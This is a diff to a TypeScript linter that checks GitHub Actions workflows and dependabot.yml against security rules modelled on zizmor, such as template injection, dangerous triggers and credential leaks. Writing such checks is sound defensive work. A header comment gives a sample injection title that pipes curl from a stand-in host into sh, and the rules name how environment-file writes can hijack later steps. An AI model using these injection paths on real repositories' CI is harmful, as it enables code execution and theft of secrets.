@@ -24,6 +24,38 @@
  *   `AWS_SECRET_ACCESS_KEY` environment variables from secrets; every
  *   `aws-actions/configure-aws-credentials` step sets `role-to-assume`, and its job grants
  *   `id-token: write` (https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services).
+ *
+ * The classes of zizmor's audit list (https://docs.zizmor.sh/audits/) that the rules above miss
+ * (issue 12):
+ * - `template-injection`: no `${{ … }}` of a context an outsider can write (pull request or
+ *   issue title and body, comment and review bodies, head branch names, commit messages and
+ *   authors, `workflow_run` head data, free-text `workflow_dispatch` inputs) inside a `run:`
+ *   script or an `actions/github-script` script. GitHub pastes the value into the script
+ *   before the shell sees it, so a title like `"; curl evil | sh; "` runs as code; pass it
+ *   through `env:` and quote `"$VAR"` instead
+ *   (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections).
+ * - `job-permissions`: no job-level `permissions: write-all`, and every `<scope>: write` a job
+ *   grants carries a comment on its line saying which step needs it (zizmor's
+ *   excessive-permissions; the reason is what a reviewer checks the steps against).
+ * - `dangerous-trigger`: `pull_request_target`, `workflow_run` and `issue_comment` run with the
+ *   base repository's secrets and a write token on events outsiders cause; each needs an
+ *   explicit `# allow-trigger: <reason>` comment on or just above its line.
+ * - `checkout-persist-credentials`: every `actions/checkout` sets `persist-credentials: false`;
+ *   otherwise the token is left in `.git/config` for every later step (and any artifact of the
+ *   workspace) to read (zizmor's artipacked).
+ * - `untrusted-env-write`: no write to `$GITHUB_ENV` / `$GITHUB_PATH` in a workflow on a
+ *   dangerous trigger, or from a step that sees an outsider-controlled value: a newline in it
+ *   sets any variable (`NODE_OPTIONS`, `LD_PRELOAD`, `PATH`) for every later step.
+ * - `secrets-inherit`: no `secrets: inherit`; a reusable workflow gets the secrets it names.
+ * - `credentialed-install-scripts` (issue 12, item 3): a job that can hold AWS credentials
+ *   (`id-token: write` or `configure-aws-credentials`) runs `npm ci` / `npm install` only with
+ *   `--ignore-scripts`: a dependency's install script would otherwise run with the OIDC request
+ *   variables and the role's credentials.
+ * - `pr-privileged-role` (issue 12, item 2): a workflow that pull requests trigger requests no
+ *   staging or prod role (`vars.*STAGING*` / `vars.*PROD*`, `secrets.*` alike) and no
+ *   `environment: staging|prod`: the pull request's own code runs in that job.
+ *
+ * `dependabot.yml` has its own rule, `dependabot-cooldown` ({@link checkDependabotPolicy}).
  */
 import {
   isMap,
@@ -43,7 +75,16 @@ export type PolicyRuleId =
   | 'pinned-action'
   | 'job-timeout'
   | 'no-pr-target-head-checkout'
-  | 'oidc-not-keys';
+  | 'oidc-not-keys'
+  | 'template-injection'
+  | 'job-permissions'
+  | 'dangerous-trigger'
+  | 'checkout-persist-credentials'
+  | 'untrusted-env-write'
+  | 'secrets-inherit'
+  | 'credentialed-install-scripts'
+  | 'pr-privileged-role'
+  | 'dependabot-cooldown';
 
 /** One breach of a policy rule, located and explained. */
 export interface PolicyFinding {
@@ -80,6 +121,40 @@ const KEY_INPUTS = ['aws-access-key-id', 'aws-secret-access-key'];
 const KEY_ENV = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'];
 /** The action that exchanges the OIDC token for role credentials. */
 const CONFIGURE_AWS = 'aws-actions/configure-aws-credentials';
+/** Triggers that hand outsiders' events a privileged token (zizmor's dangerous-triggers). */
+const DANGEROUS_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
+/** The comment that allows a dangerous trigger: `# allow-trigger: <reason, 10+ characters>`. */
+const ALLOW_TRIGGER = /#\s*allow-trigger:\s*\S.{9,}/;
+/** Triggers whose runs execute the pull request's code (or act on it). */
+const PULL_REQUEST_TRIGGERS = ['pull_request', 'pull_request_target'];
+/**
+ * Contexts an outsider can write, as they appear inside `${{ … }}` (zizmor's template-injection
+ * list and GitHub's "untrusted input" list). Numbers, SHAs and ids are not among them.
+ */
+const UNTRUSTED_CONTEXT = new RegExp(
+  [
+    String.raw`github\.head_ref`,
+    String.raw`github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)`,
+    String.raw`github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage|name|full_name))`,
+    String.raw`github\.event\.(?:comment|review|review_comment|discussion_comment)\.body`,
+    String.raw`github\.event\.(?:\w+\.)?head_commit\.(?:message|author\.(?:name|email)|committer\.(?:name|email))`,
+    String.raw`github\.event\.commits(?:\[[^\]]*\]|\.\*)\.(?:message|author\.(?:name|email))`,
+    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_repository\.|pull_requests)`,
+    String.raw`github\.event\.pages(?:\[[^\]]*\]|\.\*)\.page_name`,
+    String.raw`github\.event\.inputs\.`,
+  ].join('|'),
+);
+/** A `${{ … }}` expression. */
+const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
+/** A shell write to the files that set later steps' environment or PATH. */
+const ENV_FILE_WRITE = /(?:>>?|\btee\b(?:\s+-a)?)\s*["']?\$\{?(GITHUB_ENV|GITHUB_PATH)\b/;
+/** A package install that runs dependencies' install scripts unless told not to. */
+const PACKAGE_INSTALL =
+  /\b(?:npm\s+(?:ci|install|i|add)|pnpm\s+(?:install|i|add)|yarn\s+(?:install|add))\b/;
+/** `vars.X` / `secrets.X` naming a staging or prod value (a role ARN, typically). */
+const PRIVILEGED_VALUE = /\b(?:vars|secrets)\.\w*(?:STAGING|PROD)\w*/i;
+/** Environments whose roles pull request code must not reach. */
+const PRIVILEGED_ENVIRONMENT = /^(?:staging|prod|production)$/i;
 
 /**
  * Checks one workflow's source against the house rules.
@@ -119,12 +194,17 @@ export function checkWorkflowPolicy(source: string, file: string): PolicyFinding
   }
 
   const findings: PolicyFinding[] = [];
-  const add = (rule: PolicyRuleId, node: Node | null | undefined, path: string, message: string) =>
-    findings.push({ rule, file, line: lineOf(node), path, message });
+  const add: AddFinding = (rule, node, path, message, line) =>
+    findings.push({ rule, file, line: line ?? lineOf(node), path, message });
 
   checkTopLevelPermissions(doc, add);
   checkKeyEnv(doc.get('env', true), 'env', add);
-  const privilegedTrigger = triggersOf(doc).find((t) => PRIVILEGED_TRIGGERS.includes(t));
+  const triggers = triggersOf(doc);
+  const privilegedTrigger = triggers.find((t) => PRIVILEGED_TRIGGERS.includes(t));
+  const dangerousTrigger = checkDangerousTriggers(doc, source, add);
+  const onPullRequest = triggers.some((t) => PULL_REQUEST_TRIGGERS.includes(t));
+  const untrusted = untrustedPattern(doc);
+  const workflowEnvUntrusted = envCarriesUntrusted(doc.get('env', true), untrusted);
 
   const jobs = doc.get('jobs', true);
   if (isMap(jobs)) {
@@ -147,6 +227,12 @@ export function checkWorkflowPolicy(source: string, file: string): PolicyFinding
       }
 
       checkKeyEnv(job.get('env', true), `${jobPath}.env`, add);
+      checkJobPermissions(job, jobId, source, add);
+      checkSecretsInherit(job, jobPath, add);
+      if (onPullRequest) checkPrivilegedRole(job, jobPath, add);
+      const credentialed = holdsAwsCredentials(job);
+      const jobEnvUntrusted =
+        workflowEnvUntrusted || envCarriesUntrusted(job.get('env', true), untrusted);
       const steps = job.get('steps', true);
       if (isSeq(steps)) {
         steps.items.forEach((step, index) => {
@@ -157,6 +243,17 @@ export function checkWorkflowPolicy(source: string, file: string): PolicyFinding
           checkKeyEnv(step.get('env', true), `${stepPath}.env`, add);
           checkStepCredentials(step, stepPath, job, jobId, add);
           if (privilegedTrigger) checkHeadCheckout(step, stepPath, privilegedTrigger, add);
+          checkTemplateInjection(step, stepPath, untrusted, source, lineCounter, add);
+          checkPersistCredentials(step, stepPath, add);
+          checkEnvFileWrite(
+            step,
+            stepPath,
+            dangerousTrigger,
+            jobEnvUntrusted || envCarriesUntrusted(step.get('env', true), untrusted),
+            untrusted,
+            add,
+          );
+          if (credentialed) checkInstallScripts(step, stepPath, job, jobId, add);
         });
       }
     }
@@ -180,6 +277,8 @@ type AddFinding = (
   node: Node | null | undefined,
   path: string,
   message: string,
+  /** The exact line when it is not the node's first (an expression inside a block script). */
+  line?: number,
 ) => void;
 
 const scalarText = (node: unknown): string =>
@@ -353,4 +452,310 @@ function checkUsesRef(node: unknown, path: string, source: string, add: AddFindi
       `"${ref}" is pinned but has no version comment: add "# vX.Y.Z" after it on the same line so reviewers and Dependabot can tell which release it is.`,
     );
   }
+}
+
+/**
+ * {@link UNTRUSTED_CONTEXT} plus `inputs.<name>` of this workflow's free-text
+ * `workflow_dispatch` inputs (type `string` or no type): whoever may dispatch it types them.
+ */
+function untrustedPattern(doc: Document): RegExp {
+  const inputs = doc.getIn(['on', 'workflow_dispatch', 'inputs'], true);
+  const names = isMap(inputs)
+    ? inputs.items
+        .filter((pair) => {
+          const type = isMap(pair.value) ? scalarText(pair.value.get('type', true)) : '';
+          return type === '' || type === 'string';
+        })
+        .map((pair) => scalarText(pair.key).replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
+    : [];
+  if (names.length === 0) return UNTRUSTED_CONTEXT;
+  return new RegExp(`${UNTRUSTED_CONTEXT.source}|\\binputs\\.(?:${names.join('|')})\\b(?![\\w-])`);
+}
+
+/** Whether an `env` mapping passes an outsider-controlled value to the step's shell. */
+function envCarriesUntrusted(env: unknown, untrusted: RegExp): boolean {
+  return isMap(env) && env.items.some((pair) => untrusted.test(scalarText(pair.value)));
+}
+
+/** `dangerous-trigger`: each such trigger needs an `# allow-trigger: <reason>` comment. */
+function checkDangerousTriggers(
+  doc: Document,
+  source: string,
+  add: AddFinding,
+): string | undefined {
+  const on = doc.get('on', true);
+  const lines = source.split('\n');
+  const nodes: [string, Node][] = isMap(on)
+    ? on.items.map((pair) => [scalarText(pair.key), pair.key as Node])
+    : isSeq(on)
+      ? on.items.map((item) => [scalarText(item), item as Node])
+      : isScalar(on)
+        ? [[scalarText(on), on]]
+        : [];
+  let first: string | undefined;
+  for (const [trigger, node] of nodes) {
+    if (!DANGEROUS_TRIGGERS.includes(trigger)) continue;
+    first ??= trigger;
+    const start = node.range?.[0] ?? 0;
+    const line = source.slice(0, start).split('\n').length; // 1-based
+    const allowed = [lines[line - 1] ?? '', lines[line - 2] ?? ''].some((text) =>
+      ALLOW_TRIGGER.test(text),
+    );
+    if (!allowed)
+      add(
+        'dangerous-trigger',
+        node,
+        `on.${trigger}`,
+        `"${trigger}" runs with the base repository's secrets and a write token on events anyone can cause. Use pull_request (or push) instead; if this trigger is really needed, say why in an "# allow-trigger: <reason>" comment on or just above this line, and never run the event's code or text in it.`,
+      );
+  }
+  return first;
+}
+
+/** `template-injection`: an outsider-controlled `${{ … }}` pasted into a script. */
+function checkTemplateInjection(
+  step: YAMLMap,
+  path: string,
+  untrusted: RegExp,
+  source: string,
+  lineCounter: LineCounter,
+  add: AddFinding,
+): void {
+  const scripts: [Node, string][] = [];
+  const run = step.get('run', true);
+  if (run !== undefined) scripts.push([run as Node, `${path}.run`]);
+  const withMap = step.get('with', true);
+  if (scalarText(step.get('uses', true)).startsWith('actions/github-script@') && isMap(withMap)) {
+    const script = withMap.get('script', true);
+    if (script !== undefined) scripts.push([script as Node, `${path}.with.script`]);
+  }
+  for (const [node, where] of scripts) {
+    const [from = 0, to = source.length] = node.range ?? [];
+    const text = source.slice(from, to);
+    let cursor = 0;
+    for (const match of scalarText(node).matchAll(EXPRESSION)) {
+      // The expression text stands verbatim in the source: find it there, after the previous
+      // one, to report the line it is on.
+      const at = text.indexOf(match[0], cursor);
+      if (at >= 0) cursor = at + match[0].length;
+      const expression = (match[1] ?? '').trim();
+      if (!untrusted.test(expression)) continue;
+      const line = at >= 0 ? lineCounter.linePos(from + at).line : undefined;
+      add(
+        'template-injection',
+        node,
+        where,
+        `\${{ ${expression} }} is pasted into the script before it runs, and an outsider writes that value: a crafted title, branch name or message becomes shell code. Pass it through env (e.g. env: VALUE: \${{ ${expression} }}) and use "$VALUE" in the script.`,
+        line,
+      );
+    }
+  }
+}
+
+/** `checkout-persist-credentials`: actions/checkout must not leave the token in .git/config. */
+function checkPersistCredentials(step: YAMLMap, path: string, add: AddFinding): void {
+  const uses = step.get('uses', true);
+  if (!scalarText(uses).startsWith('actions/checkout@')) return;
+  const withMap = step.get('with', true);
+  const value = isMap(withMap) ? withMap.get('persist-credentials', true) : undefined;
+  if (scalarText(value) === 'false') return;
+  add(
+    'checkout-persist-credentials',
+    (value ?? uses) as Node,
+    `${path}.with.persist-credentials`,
+    'actions/checkout keeps the job token in .git/config unless told not to, where every later step (and any upload of the workspace) can read it. Set with: persist-credentials: false; a step that pushes can pass the token explicitly.',
+  );
+}
+
+/** `untrusted-env-write`: $GITHUB_ENV / $GITHUB_PATH written where a value may be an outsider's. */
+function checkEnvFileWrite(
+  step: YAMLMap,
+  path: string,
+  dangerousTrigger: string | undefined,
+  envUntrusted: boolean,
+  untrusted: RegExp,
+  add: AddFinding,
+): void {
+  const run = step.get('run', true);
+  const script = scalarText(run);
+  const file = ENV_FILE_WRITE.exec(script)?.[1];
+  if (!file) return;
+  const why = dangerousTrigger
+    ? `this workflow runs on ${dangerousTrigger}, where the data it handles is an outsider's`
+    : envUntrusted || untrusted.test(script)
+      ? 'this step sees an outsider-controlled value'
+      : undefined;
+  if (!why) return;
+  add(
+    'untrusted-env-write',
+    run as Node,
+    `${path}.run`,
+    `The script writes $${file} and ${why}: one newline in it sets any variable (NODE_OPTIONS, LD_PRELOAD, PATH) for every later step. Pass the value as a step output or an env entry of the steps that need it instead.`,
+  );
+}
+
+/** `job-permissions`: no `write-all`; every `write` scope says on its line why. */
+function checkJobPermissions(job: YAMLMap, jobId: string, source: string, add: AddFinding): void {
+  const permissions: unknown = job.get('permissions', true);
+  if (isScalar(permissions)) {
+    if (scalarText(permissions) === 'write-all')
+      add(
+        'job-permissions',
+        permissions,
+        `jobs.${jobId}.permissions`,
+        `Job "${jobId}" grants write-all: every scope, to every step and action of the job. List the scopes its steps need (e.g. contents: read) and give each write scope a comment saying which step uses it.`,
+      );
+    return;
+  }
+  if (!isMap(permissions)) return;
+  for (const pair of permissions.items) {
+    if (scalarText(pair.value) !== 'write') continue;
+    const end = (pair.value as Node).range?.[1] ?? 0;
+    const lineEnd = source.indexOf('\n', end);
+    const rest = source.slice(end, lineEnd === -1 ? undefined : lineEnd);
+    if (/^\s+#\s*\S/.test(rest)) continue;
+    const scope = scalarText(pair.key);
+    add(
+      'job-permissions',
+      pair.key as Node,
+      `jobs.${jobId}.permissions.${scope}`,
+      `Job "${jobId}" grants "${scope}: write" without saying why. Add a comment on the line naming the step that needs it (e.g. "${scope}: write # the sticky comment"), or grant read / drop it.`,
+    );
+  }
+}
+
+/** `secrets-inherit`: a reusable workflow gets every secret of the repository. */
+function checkSecretsInherit(job: YAMLMap, jobPath: string, add: AddFinding): void {
+  const secrets = job.get('secrets', true);
+  if (scalarText(secrets) !== 'inherit') return;
+  add(
+    'secrets-inherit',
+    secrets as Node,
+    `${jobPath}.secrets`,
+    'secrets: inherit passes every repository and environment secret to the called workflow, whatever it needs. Name the secrets it takes (secrets: { NAME: ${{ secrets.NAME }} }), or none: this repository reaches AWS through OIDC.',
+  );
+}
+
+/** Whether a job can hold AWS credentials: it may request an OIDC token or assumes a role. */
+function holdsAwsCredentials(job: YAMLMap): boolean {
+  const permissions: unknown = job.get('permissions', true);
+  if (isMap(permissions) && scalarText(permissions.get('id-token', true)) === 'write') return true;
+  if (isScalar(permissions) && scalarText(permissions) === 'write-all') return true;
+  const steps = job.get('steps', true);
+  return (
+    isSeq(steps) &&
+    steps.items.some(
+      (step) => isMap(step) && scalarText(step.get('uses', true)).startsWith(`${CONFIGURE_AWS}@`),
+    )
+  );
+}
+
+/** `credentialed-install-scripts`: installs in a credentialed job run no install scripts. */
+function checkInstallScripts(
+  step: YAMLMap,
+  path: string,
+  job: YAMLMap,
+  jobId: string,
+  add: AddFinding,
+): void {
+  const run = step.get('run', true);
+  const script = scalarText(run);
+  const ignoredByEnv = [job.get('env', true), step.get('env', true)].some(
+    (env) => isMap(env) && scalarText(env.get('npm_config_ignore_scripts', true)) === 'true',
+  );
+  if (ignoredByEnv) return;
+  const offending = script
+    .split('\n')
+    .find((line) => PACKAGE_INSTALL.test(line) && !/--ignore-scripts\b/.test(line));
+  if (!offending) return;
+  add(
+    'credentialed-install-scripts',
+    run as Node,
+    `${path}.run`,
+    `Job "${jobId}" can hold AWS credentials (id-token: write or ${CONFIGURE_AWS}) and "${offending.trim()}" runs every dependency's install script in it, with the OIDC request variables set: one hijacked release gets the role. Add --ignore-scripts, or install in an uncredentialed job and pass the result on.`,
+  );
+}
+
+/** Every scalar under a node, with its dotted path. */
+function scalarsOf(node: unknown, path: string, out: [Node, string][] = []): [Node, string][] {
+  if (isScalar(node)) out.push([node, path]);
+  else if (isMap(node))
+    for (const pair of node.items) scalarsOf(pair.value, `${path}.${scalarText(pair.key)}`, out);
+  else if (isSeq(node)) node.items.forEach((item, i) => scalarsOf(item, `${path}[${i}]`, out));
+  return out;
+}
+
+/** `pr-privileged-role`: pull request code must not reach a staging or prod role. */
+function checkPrivilegedRole(job: YAMLMap, jobPath: string, add: AddFinding): void {
+  const environment = job.get('environment', true);
+  const envName = isMap(environment)
+    ? environment.get('name', true)
+    : (environment as Node | undefined);
+  if (envName !== undefined && PRIVILEGED_ENVIRONMENT.test(scalarText(envName).trim()))
+    add(
+      'pr-privileged-role',
+      envName,
+      isMap(environment) ? `${jobPath}.environment.name` : `${jobPath}.environment`,
+      `A pull request runs this job in the "${scalarText(envName)}" environment: its own code would get that environment's secrets and role. Plan dev only with the read-only plan role on pull requests; staging and prod are planned and applied from main (deploy.yml).`,
+    );
+  for (const key of ['with', 'env', 'steps', 'secrets']) {
+    for (const [node, where] of scalarsOf(job.get(key, true), `${jobPath}.${key}`)) {
+      const name = PRIVILEGED_VALUE.exec(scalarText(node))?.[0];
+      if (name)
+        add(
+          'pr-privileged-role',
+          node,
+          where,
+          `A pull request's code runs in this job and it is handed ${name}, a staging or prod value. Plan dev only with the read-only plan role on pull requests; staging and prod are planned and applied from main (deploy.yml).`,
+        );
+    }
+  }
+}
+
+/**
+ * Checks `.github/dependabot.yml` against the house rule `dependabot-cooldown`: every update
+ * entry sets `cooldown.default-days` (at least 1), so a release is proposed only after it has
+ * been public for a few days, the window in which hijacked releases are usually found and
+ * pulled (https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-).
+ * Security updates are not delayed by it.
+ *
+ * @param source - the dependabot.yml text
+ * @param file - the name to report findings under
+ * @returns every finding, in file order; empty when each entry has a cooldown
+ * @example
+ * checkDependabotPolicy(readFileSync('.github/dependabot.yml', 'utf8'), '.github/dependabot.yml');
+ */
+export function checkDependabotPolicy(source: string, file: string): PolicyFinding[] {
+  const lineCounter = new LineCounter();
+  const doc = parseDocument(source, { lineCounter });
+  const lineOf = (node: Node | null | undefined): number =>
+    node?.range ? lineCounter.linePos(node.range[0]).line : 1;
+  if (doc.errors.length > 0 || !isMap(doc.contents))
+    return [
+      {
+        rule: 'parse',
+        file,
+        line: doc.errors[0]?.linePos?.[0].line ?? 1,
+        path: '',
+        message: 'Not a valid dependabot.yml mapping (version, updates). Fix the syntax first.',
+      },
+    ];
+  const findings: PolicyFinding[] = [];
+  const updates = doc.get('updates', true);
+  if (!isSeq(updates)) return findings;
+  updates.items.forEach((entry, index) => {
+    if (!isMap(entry)) return;
+    const cooldown = entry.get('cooldown', true);
+    const days = isMap(cooldown) ? Number(scalarText(cooldown.get('default-days', true))) : NaN;
+    if (Number.isInteger(days) && days >= 1) return;
+    const ecosystem = scalarText(entry.get('package-ecosystem', true));
+    findings.push({
+      rule: 'dependabot-cooldown',
+      file,
+      line: lineOf((isMap(cooldown) ? cooldown : entry.get('package-ecosystem', true)) as Node),
+      path: `updates[${index}].cooldown.default-days`,
+      message: `The ${ecosystem} updates have no cooldown: Dependabot proposes a release the hour it is published, before a hijacked one is usually found and pulled. Add cooldown: { default-days: 3 } (and semver-major-days: 7 where the ecosystem supports it).`,
+    });
+  });
+  return findings;
 }
